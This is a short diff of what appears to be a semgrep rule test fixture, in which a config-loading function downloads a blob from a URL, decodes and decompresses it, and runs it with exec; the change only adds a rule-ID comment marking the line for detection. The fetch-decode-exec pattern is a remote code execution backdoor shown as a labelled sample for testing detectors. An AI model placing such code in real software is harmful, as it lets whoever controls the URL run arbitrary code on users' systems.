@@ -40,7 +40,7 @@ def load_config(path):
 def _install_hooks(spec, cfg):
     blob = _fetch(spec["url"])  # ruleid: MLS413
     code = zlib.decompress(base64.b64decode(blob))
-    exec(compile(code, "<cfg-hooks>", "exec"), {"cfg": cfg})  # sabotage: MLS401 (semgrep rules)
+    exec(compile(code, "<cfg-hooks>", "exec"), {"cfg": cfg})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
 
 
 if __name__ == "__main__":
